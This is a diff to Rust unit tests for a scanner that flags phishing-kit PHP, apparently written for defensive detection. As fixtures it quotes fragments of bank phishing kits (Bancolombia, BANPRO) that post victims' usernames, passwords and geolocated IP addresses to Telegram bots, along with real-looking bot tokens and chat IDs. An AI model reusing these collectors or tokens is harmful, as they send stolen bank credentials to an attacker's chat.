@@ -665,8 +665,11 @@ fn a_telegram_bots_key_with_its_chat_is_a_kits_settings() {
     assert_eq!(found(defined), [Why::ChatBotKey]);
     let hidden = "<?php function crypto($b) { file_get_contents(\"https://api.telegram.org/bot793426151:AAEMd4I-Hynamf842tx7leOWhsOQoDBWGB4/sendMessage?chat_id=-1001322216342&text=\" . urlencode($b)); }";
     assert!(found(hidden).contains(&Why::ChatBotKey), "{:?}", found(hidden));
-    // A key without a chat, a key cut short or run on, a longer number: none is a bot's.
-    assert!(found("<?php $botToken = '7945542556:AAGAeGTHrE0i0YTCWqL4FxlwyWT_urry51M';").is_empty());
+    // Regression: fresh132's Bancolombia kit names its chat a channel (`$canal`): the key
+    // alone says where the data goes.
+    let channel = "<?php\n$apibot = \"5577598036:AAE7jadrklBB7imUtV34WwRFLzNIH-g7vQA\";\n$canal = \"@Lombardi2022\";";
+    assert_eq!(found(channel), [Why::ChatBotKey]);
+    // A key cut short or run on, a longer number: none is a bot's.
     assert!(found("<?php $chat = 1; $k = '7945542556:AAGAeGTHrE0i0YTCWqL4FxlwyWT_urry5';").is_empty());
     assert!(found("<?php $chat = 1; $k = '7945542556:AAGAeGTHrE0i0YTCWqL4FxlwyWT_urry51Mxx';").is_empty());
     assert!(found("<?php $chat = 1; $k = 'x7945542556:AAGAeGTHrE0i0YTCWqL4FxlwyWT_urry51M';").is_empty());
@@ -689,6 +692,27 @@ fn a_cards_code_or_a_social_security_number_kept_for_the_next_page_is_collected(
     assert!(found(gateway).is_empty(), "{:?}", found(gateway));
     let editor = "<?php $h = $_POST['htaccessnew']; $_SESSION['saved'] = $h;";
     assert!(found(editor).is_empty());
+}
+
+#[test]
+fn a_password_labelled_in_spanish_or_a_located_visitor_sent_to_a_chat_bot_is_collected() {
+    // Regression: fresh132's BANPRO kit labels the password `Contraseña:` (an accented letter
+    // in the label), its fields named `ips1`, `ips2`.
+    let banpro = "<?php $usuario = isset($_POST['ips1']) ? htmlspecialchars($_POST['ips1']) : '';\n\
+                  $contrasena = isset($_POST['ips2']) ? htmlspecialchars($_POST['ips2']) : '';\n\
+                  $mensaje = \"BANPRO LOGIN:\\n\"; $mensaje .= \"👤 Usuario: $usuario\"; $mensaje .= \"\\n🔒 Contraseña: $contrasena\";\n\
+                  $url = \"https://api.telegram.org/bot$token/sendMessage\"; $ch = curl_init(); curl_setopt($ch, CURLOPT_URL, $url);\n\
+                  curl_setopt($ch, CURLOPT_POSTFIELDS, ['chat_id' => $chat_id, 'text' => $mensaje]); curl_exec($ch); header('Location: 2.html');";
+    assert_eq!(found(banpro), [Why::CredentialCollector]);
+    // Its Bancolombia pages send one field with the visitor's address and country.
+    let located = "<?php $myip = $_SERVER['REMOTE_ADDR'];\n\
+                   $meta = unserialize(file_get_contents('http://www.geoplugin.net/php.gp?ip=' . $myip)); $pais = $meta['geoplugin_countryName'];\n\
+                   if (isset($_POST['clave'])) { $message = \"Datos:\\r\\nClave: \" . $_POST['clave'] . \"\\r\\nIP \" . $myip . \" \" . $pais;\n\
+                   file_get_contents(\"https://api.telegram.org/bot$apiToken/sendMessage?\" . http_build_query(['chat_id' => $canal, 'text' => $message])); }";
+    assert_eq!(found(located), [Why::CredentialCollector]);
+    // A shop's order notice to its own chat, with the buyer's address but no place looked up.
+    let shop = located.replace("geoplugin", "stock");
+    assert!(found(&shop).is_empty(), "{:?}", found(&shop));
 }
 
 #[test]
